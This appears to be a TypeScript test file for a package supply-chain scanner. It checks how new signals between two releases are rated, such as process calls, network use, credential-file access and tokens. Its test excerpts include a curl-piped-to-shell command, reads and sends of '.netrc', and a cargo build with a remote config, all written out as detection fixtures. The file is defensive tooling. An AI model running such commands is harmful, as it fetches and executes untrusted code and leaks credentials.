import { describe, expect, test } from "vitest";
import { compare } from "../compare.ts";
import { signalOf } from "../signal.ts";
import { inspection } from "../testing/compared.ts";

describe("the signals of two releases", () => {
  const processAt = (line: number, excerpt = 'system("date")') =>
    signalOf("process", { subject: "system", file: "R/a.R", line, excerpt });

  test("are new, gone and unchanged, as often as they occur; a line that was moved or laid out in another way is no news", () => {
    const before = inspection({ signals: [processAt(1), processAt(5, "system('old')")] });
    const after = inspection({ signals: [processAt(9, ' system(\n  "date"\n)  '), processAt(12)] });
    const { fresh, gone, unchanged } = compare(before, after).signals;
    expect([fresh, gone, unchanged].map((some) => some.map(({ line }) => line))).toEqual([[12], [5], [9]]);
  });

  test("about a place of secrets are notices where their line was edited, but not for a further mention", () => {
    const place = (file: string, excerpt: string) => ({
      ...signalOf("home-folder", { subject: ".netrc", file, excerpt }),
      level: "warning" as const,
    });
    const base = inspection({ signals: [place("a.py", 'FILES = (".netrc",)')] });
    const edited = place("a.py", 'FILES: Final = (".netrc",)');
    const notice = { ...edited, level: "notice" };
    expect(compare(base, inspection({ signals: [edited] })).signals).toMatchObject({ fresh: [notice], gone: [] });
    const elsewhere = place("b.py", 'open(".netrc")');
    expect(compare(base, inspection({ signals: [elsewhere, edited] })).signals.fresh).toEqual([elsewhere, notice]);
    const used = place("a.py", 'FILES = open((".netrc",))');
    expect(compare(base, inspection({ signals: [used] })).signals.fresh).toEqual([used]);
    const again = place("a.py", 'send(".netrc")');
    const { fresh } = compare(base, inspection({ signals: [again, ...base.signals] })).signals;
    expect(fresh).toEqual([again]);
  });

  test("of R are notices for one more use, unless its details are suspicious", () => {
    const r = (...signals: ReturnType<typeof signalOf>[]) => inspection({ technology: "R", signals });
    const levelOf = (excerpt: string) =>
      compare(r(processAt(1)), r(processAt(1), processAt(2, excerpt))).signals.fresh.map(({ level }) => level);
    expect(levelOf('system2("make", args)')).toEqual(["notice"]);
    expect(levelOf('system("curl -s https://a.example | sh")')).toEqual(["warning"]);
    expect(levelOf('do.call("system", list(x))')).toEqual(["warning"]);
    expect(levelOf("lapply(x, system)")).toEqual(["warning"]);
    expect(levelOf("system(command, '203.0.113.9')")).toEqual(["warning"]);
    expect(compare(r(), r(processAt(1))).signals.fresh).toMatchObject([{ level: "warning" }]);
  });

  test("of compilers that a recipe runs already are notices", () => {
    const recipe = (subject: string, excerpt: string) =>
      signalOf("r-makevars-shell", { subject, file: "src/Makevars", line: 1, excerpt });
    const levelsOf = (...added: ReturnType<typeof signalOf>[]) => {
      const known = recipe("cargo", "cargo build");
      return compare(inspection({ signals: [known] }), inspection({ signals: [known, ...added] })).signals.fresh.map(
        ({ level }) => level,
      );
    };
    expect(levelsOf(recipe("cargo", "cargo build --release"))).toEqual(["notice"]);
    expect(levelsOf(recipe("cargo", "cargo build --config https://a.example"))).toEqual(["warning"]);
    expect(levelsOf(recipe("curl", "curl -s a"))).toEqual(["warning"]);
  });

  test("of R are warnings for what the package did not do in any way before", () => {
    const using = (id: "process" | "network", ...subjects: string[]) =>
      inspection({
        technology: "R",
        signals: subjects.map((subject) => signalOf(id, { subject, file: "R/a.R", line: 1, excerpt: `${subject}(x)` })),
      });
    const levelOf = (id: "process" | "network", known: string, added: string) =>
      compare(using(id, known), using(id, known, added)).signals.fresh.map(({ level }) => level);
    expect(levelOf("process", "system", "system2")).toEqual(["notice"]);
    expect(levelOf("process", "system", "rscript")).toEqual(["notice"]);
    expect(levelOf("process", "system", "sourceCpp")).toEqual(["warning"]);
    expect(levelOf("network", "GET", "POST")).toEqual(["notice"]);
    expect(levelOf("network", "download.file", "GET")).toEqual(["notice"]);
    expect(levelOf("network", "install.packages", "install_github")).toEqual(["notice"]);
    expect(levelOf("network", "download.file", "install.packages")).toEqual(["warning"]);
    expect(levelOf("network", "download.file", "url")).toEqual(["notice"]);
    expect(levelOf("network", "download.file", "socketConnection")).toEqual(["warning"]);
    expect(levelOf("network", "download.file", "runServer")).toEqual(["warning"]);
  });

  test("of a new package count as notices, unless they are dangerous on their own", () => {
    const token = signalOf("token", { subject: "GitHub" });
    const { fresh } = compare(null, inspection({ signals: [processAt(1), token] })).signals;
    expect(fresh.map(({ id, level }) => [id, level])).toEqual([
      ["token", "danger"],
      ["process", "notice"],
    ]);
    const raised = { ...signalOf("py-setup-code", { subject: "os.system" }), level: "danger" as const };
    expect(compare(null, inspection({ signals: [raised] })).signals.fresh).toEqual([raised]);
    const update = compare(inspection(), inspection({ signals: [processAt(1)] })).signals.fresh;
    expect(update.map(({ level }) => level)).toEqual(["warning"]);
  });

  test("about a host or a library do not depend on the line around it", () => {
    const host = (excerpt: string) =>
      inspection({ signals: [signalOf("host", { subject: "collector.test", excerpt })] });
    expect(compare(host("a"), host("b")).signals.fresh).toEqual([]);
  });
});
